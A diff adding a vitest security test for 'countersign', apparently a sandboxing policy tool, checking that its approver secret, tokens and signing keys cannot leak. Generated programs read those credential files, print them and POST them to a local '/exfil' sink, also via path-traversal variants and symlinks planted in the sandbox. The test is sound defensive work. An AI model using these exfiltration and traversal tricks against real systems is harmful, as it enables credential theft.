@@ -1,0 +1,105 @@
+// countersign's own secrets: the user widens the fs connection to the whole home folder, which
+// holds the data directory (approver secret, submitter token, signing keys, the provider token),
+// or links the data directory into the sandbox. A program that may read any file without asking
+// never gets those contents to its output or to a sink.
+import { readFileSync, symlinkSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { program, SLOW, startWorld, type World } from "./world.js";
+
+const policy = (sinkOrigin: string) => `default = "deny"
+
+[[rules]]
+id = "fs.read"
+decision = "allow"
+op = "fs.read_file"
+
+[[rules]]
+id = "fs.list"
+decision = "allow"
+op = "fs.list_dir"
+
+[[rules]]
+id = "http.sink"
+decision = "allow"
+op = "http.post"
+when = { args = { url = { prefix = "${sinkOrigin}/" } } }
+`;
+
+/** Every secret string of the data directory: the approver secret, the tokens, the private key parts. */
+function secretsOf(w: World): string[] {
+  const secrets = [readFileSync(join(w.data, "approver.secret"), "utf8").trim(), readFileSync(join(w.data, "submitter.token"), "utf8").trim(), w.gmailToken];
+  const walk = (value: unknown, key = ""): void => {
+    if (typeof value === "string" && key === "d") secrets.push(value);
+    else if (value !== null && typeof value === "object") for (const [k, v] of Object.entries(value)) walk(v, k);
+  };
+  walk(JSON.parse(readFileSync(join(w.data, "keys", "keyring.json"), "utf8")));
+  return secrets.filter((s) => s.length >= 16);
+}
+
+/** Read each file, print it, return it and post it to the sink; every run's output and every sink body. */
+async function exfiltrate(w: World, paths: string[]): Promise<{ out: string; seen: string }> {
+  const sink = w.sinks[0]!;
+  let out = "";
+  for (const path of paths) {
+    const body = `    const r = await readFile({ path: ${JSON.stringify(path)} });
+    console.log(String(r.content));
+    await post({ url: "${sink.origin}/exfil", body: String(r.content) });`;
+    const r = await w.run(program(body, { imports: `import { readFile } from "trusted/fs";\nimport { post } from "trusted/http";` }));
+    out += `--- ${path}: exit ${r.code}\n${r.stdout}${r.stderr}`;
+  }
+  // Every program passed the analysis: the attempts are real, not type errors.
+  if (/^\d+:\d+: error/m.test(out)) throw new Error(`a program was refused by the analysis:\n${out}`);
+  return { out, seen: out + sink.received.map((a) => a.body + JSON.stringify(a.headers)).join("\n") };
+}
+
+function leaked(w: World, seen: string): string[] {
+  return secretsOf(w).filter((s) => seen.includes(s)).map((s) => `${s.slice(0, 6)}…`);
+}
+
+describe("fs roots = [HOME], the data directory inside it", () => {
+  let w: World;
+  beforeAll(async () => {
+    w = await startWorld({
+      connections: (world) => `[email]\nbase_url = "${world.gmail.url}"\ntoken_file = "${join(world.data, "gmail-token")}"\n\n[fs]\nroots = ["${world.home}"]\n\n[http]\nhosts = ["${world.sinks[0]!.host}"]\n`,
+      policies: (world) => ({ "attacks.toml": policy(world.sinks[0]!.origin) }),
+    });
+  }, 120_000);
+  afterAll(async () => {
+    await w?.close();
+  });
+
+  it("the approver secret, the submitter token, the provider token and the signing key never reach stdout, stderr or the sink", async () => {
+    const d = w.data;
+    const { out, seen } = await exfiltrate(w, [
+      join(d, "approver.secret"),
+      join(d, "submitter.token"),
+      join(d, "gmail-token"),
+      join(d, "keys", "keyring.json"),
+      `${w.home}/Sandbox/../.countersign/approver.secret`,
+      `${d}/./submitter.token`,
+      `${w.home}//.countersign//keys/keyring.json`,
+    ]);
+    expect(leaked(w, seen), out).toEqual([]);
+    // The control: a plain file under the same root is read and sent.
+    await exfiltrate(w, [join(w.sandbox, "notes.txt")]);
+    expect(w.sinks[0]!.received.some((a) => a.body.includes("inside the sandbox"))).toBe(true);
+  }, SLOW);
+});
+
+describe("fs roots = [~/Sandbox], the data directory linked into it", () => {
+  let w: World;
+  beforeAll(async () => {
+    w = await startWorld({ policies: (world) => ({ "attacks.toml": policy(world.sinks[0]!.origin) }) });
+    symlinkSync(w.data, join(w.sandbox, "cs"));
+    symlinkSync(join(w.data, "approver.secret"), join(w.sandbox, "secret-link"));
+  }, 120_000);
+  afterAll(async () => {
+    await w?.close();
+  });
+
+  it("reading through the links leaks nothing", async () => {
+    const { out, seen } = await exfiltrate(w, [join(w.sandbox, "cs", "approver.secret"), join(w.sandbox, "cs", "submitter.token"), join(w.sandbox, "secret-link"), join(w.sandbox, "cs", "gmail-token")]);
+    expect(leaked(w, seen), out).toEqual([]);
+  }, SLOW);
+});
